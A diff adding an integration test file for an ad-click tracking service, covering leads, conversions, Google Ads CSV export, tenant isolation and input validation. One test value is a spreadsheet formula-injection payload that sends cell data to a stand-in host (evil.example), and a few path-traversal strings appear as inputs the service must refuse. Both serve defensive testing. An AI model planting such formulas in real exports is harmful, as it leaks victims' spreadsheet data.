@@ -1,0 +1,191 @@
+// From a click on an ad to the file its network imports, over HTTP: who sees it, and what cannot be smuggled into it.
+import { beforeAll, expect, test } from 'vitest';
+import type { AnswerOf, BodyOf, CallName } from '#shared/contract/index.ts';
+import { calls } from '#shared/contract/index.ts';
+import type { License } from '#shared/contract/license.ts';
+import { nowOf } from '../support/people/card-customer.ts';
+import { ask, buy, customer, post } from '../support/people/person.ts';
+import { stackHere } from '../support/stack/stack-here.ts';
+
+const stack = stackHere();
+const origin = 'https://www.acme-garden.com';
+
+interface Licensed {
+  token: string;
+  key: string;
+}
+
+async function licensed(
+  settings: BodyOf<'tracker-settings'>['settings'] = { click_reports: true },
+): Promise<Licensed> {
+  const { token, ...person } = await customer(stack);
+  await buy(stack, { ...person, token });
+  const { body } = await ask<'licenses', License[]>(stack, 'licenses', {}, token);
+  const key = body[0]?.meta.license_key ?? '';
+  await ask(stack, 'update-domain', { license_key: key, domain: 'acme-garden.com' }, token);
+  const saved = await write('tracker-settings', { token, key }, { settings, version: 0 });
+  expect(saved.status).toBe(200);
+  return { token, key };
+}
+
+let sent = 100_000_000;
+
+/** A report as the tracker sends it, counted at once. */
+async function report({ key }: Licensed, change: object, copies = 1): Promise<number> {
+  const at = (await nowOf(stack)) - 60_000;
+  sent += 1;
+  const body = JSON.stringify({
+    ...{ event_id: `${sent}${at}`, license_key: key, kind: 'visit', host: 'www.acme-garden.com', path: '/' },
+    ...{ c: { touch_time: at, visit_count: 1 }, ...change },
+  });
+  for (let copy = 0; copy < copies; copy++)
+    await fetch(`${stack.site}/collect`, { method: 'POST', headers: { origin }, body });
+  await post(`${stack.site}/__local/jobs/count-visits`, {});
+  return at;
+}
+
+async function read<Name extends CallName>(name: Name, { key, token }: Licensed, query: object = {}) {
+  const search = new URLSearchParams({ license_key: key, ...query });
+  const headers = { authorization: `Bearer ${token}` };
+  const answer = await fetch(`${stack.api}${calls[name].path}?${search}`, { headers });
+  return { status: answer.status, body: (await answer.json()) as AnswerOf<Name> };
+}
+
+function write<Name extends CallName>(name: Name, { key, token }: Licensed, body: object) {
+  const headers = { authorization: `Bearer ${token}` };
+  const whole = { license_key: key, ...body } as BodyOf<Name>;
+  return post<AnswerOf<Name>>(`${stack.api}${calls[name].path}`, whole as object, headers);
+}
+
+let who: Licensed;
+let other: Licensed;
+beforeAll(async () => {
+  [who, other] = [await licensed(), await licensed()];
+});
+
+const hostile = '=HYPERLINK("https://evil.example?"&A1)';
+
+test('a click becomes a lead, a sale and a line of the file that its network fetches', async () => {
+  const clicked = (await nowOf(stack)) - 3_600_000;
+  const touch = {
+    touch_time: clicked,
+    landing_page: 'https://www.acme-garden.com/sale',
+    utm_campaign: hostile,
+  };
+  const c = { ...touch, visit_count: 1, first_touch_time: clicked, first_landing_page: touch.landing_page };
+  const visit = { c, click: 'gclid', ids: { gclid: 'Cj0KCQ_aB-1' } };
+  await report(who, visit, 3);
+  const found = await read('click-report', who);
+  expect(found.body.items).toMatchObject([
+    {
+      ...{ at: clicked, name: 'gclid', value: 'Cj0KCQ_aB-1', network: 'Google Ads', campaign: hostile },
+      ...{ page: 'www.acme-garden.com/sale', lead_at: null, conversion: null },
+    },
+  ]);
+  const click = found.body.items[0]?.id ?? '';
+
+  const at = await report(who, {
+    ...{ ...visit, kind: 'lead', path: '/contact', c: { ...c, visit_count: '3' } },
+  });
+  expect((await read('click-report', who, { lead: 'yes' })).body.items).toMatchObject([
+    { id: click, lead_at: at },
+  ]);
+  const { body } = await read('leads', who);
+  expect(body.items).toMatchObject([
+    {
+      ...{
+        at,
+        page: 'www.acme-garden.com/contact',
+        visits_before: 2,
+        clicks: [{ id: click, name: 'gclid' }],
+      },
+      first: { at: clicked, page: 'www.acme-garden.com/sale' },
+      last: { channel: 'Paid Search', source: 'google', click: 'gclid' },
+    },
+  ]);
+  expect(JSON.stringify(body)).not.toContain('Cj0KCQ');
+
+  for (const name of ['leads', 'click-report'] as const)
+    expect((await read(name, who, { as: 'csv' })).body.csv).toContain(
+      `"'=HYPERLINK(""https://evil.example?""&A1)"`,
+    );
+
+  const refused = await write('mark-converted', who, { click, value: 480, currency: 'USD', at: clicked - 1 });
+  expect(refused).toMatchObject({ status: 400, body: { field: { name: 'at', reason: 'before-click' } } });
+  const sale = { click, value: 480, currency: 'USD', at: Date.UTC(2026, 10, 20, 19, 30) };
+  const madeAt = Math.max(sale.at, clicked);
+  expect(await write('mark-converted', who, { ...sale, at: madeAt })).toMatchObject({ status: 200 });
+  // A report that comes once more takes no mark away.
+  await report(who, visit);
+  expect((await read('click-report', who, { converted: 'yes' })).body.items).toMatchObject([
+    { id: click, lead_at: at, conversion: { value: 480, currency: 'USD', at: madeAt } },
+  ]);
+
+  const { body: made } = await write('click-export', who, { address: 'new', conversion_name: 'Sale' });
+  const path = made.paths?.['google-gclid'] ?? '';
+  const file = await fetch(`${stack.api}${path}`);
+  expect([file.status, file.headers.get('content-type')]).toEqual([200, 'text/csv; charset=utf-8']);
+  expect(file.headers.get('cache-control')).toBe('no-store');
+  const time = new Date(madeAt).toISOString().slice(0, 19).replace('T', ' ');
+  const text = await file.text();
+  expect(text).toBe(
+    [
+      'Parameters:TimeZone=+0000',
+      'Google Click ID,Conversion Name,Conversion Time,Conversion Value,Conversion Currency',
+      `Cj0KCQ_aB-1,Sale,${time},480.00,USD`,
+      '',
+    ].join('\r\n'),
+  );
+  expect((await read('click-export', who, { file: 'google-gclid' })).body.csv).toBe(text);
+
+  await write('click-export', who, { address: 'new' });
+  const old = await fetch(`${stack.api}${path}`);
+  expect([old.status, old.headers.get('content-type')]).toEqual([404, 'application/json; charset=utf-8']);
+  await write('mark-converted', who, { click, undo: true });
+  expect((await read('click-report', who, { converted: 'yes' })).body.items).toEqual([]);
+});
+
+test('a licence that keeps no click reports keeps no click, and its leads all the same', async () => {
+  const plain = await licensed({});
+  await report(plain, { kind: 'lead', ids: { gclid: 'G' }, click: 'gclid' });
+  expect((await read('click-report', plain)).body.items).toEqual([]);
+  expect((await read('leads', plain)).body.items).toMatchObject([{ clicks: [], last: { click: 'gclid' } }]);
+});
+
+test('somebody else’s licence answers as one that does not exist', async () => {
+  await report(who, { ids: { gclid: 'Foreign' } });
+  const click = (await read('click-report', who)).body.items[0]?.id ?? '';
+  const [foreign, none] = [
+    { key: who.key, token: other.token },
+    { key: 'none', token: other.token },
+  ];
+  for (const name of ['leads', 'click-report', 'click-export'] as const) {
+    const [theirs, ours] = [await read(name, foreign), await read(name, none)];
+    expect(theirs).toMatchObject({ status: 404 });
+    expect(theirs).toEqual(ours);
+  }
+  for (const [name, body] of [
+    ['mark-converted', { click }],
+    ['click-export', { address: 'new' }],
+  ] as const) {
+    const [theirs, ours] = [await write(name, foreign, body), await write(name, none, body)];
+    expect([theirs.status, theirs.body]).toEqual([404, ours.body]);
+  }
+  // One's own licence with somebody else's click.
+  expect(await write('mark-converted', other, { click })).toMatchObject({ status: 404 });
+  expect((await read('click-report', who, { converted: 'yes' })).body.items).toEqual([]);
+});
+
+test('what is asked for strangely is refused, not obeyed', async () => {
+  for (const query of [{ cursor: '../x' }, { from: 'soon' }, { lead: 'maybe' }, { as: 'xml' }])
+    expect((await read('click-report', who, query)).status, JSON.stringify(query)).toBe(400);
+  for (const body of [{ click: 'x' }, { click: `${Date.now()}#a`, value: '5' }, {}])
+    expect((await write('mark-converted', who, body)).status).toBe(400);
+  for (const end of [
+    'secret/google-gclid.csv',
+    'secret/other.csv',
+    'secret/..%2f',
+    `${'A'.repeat(43)}/microsoft.csv`,
+  ])
+    expect([400, 404]).toContain((await fetch(`${stack.api}/http/conversions/${who.key}/${end}`)).status);
+});
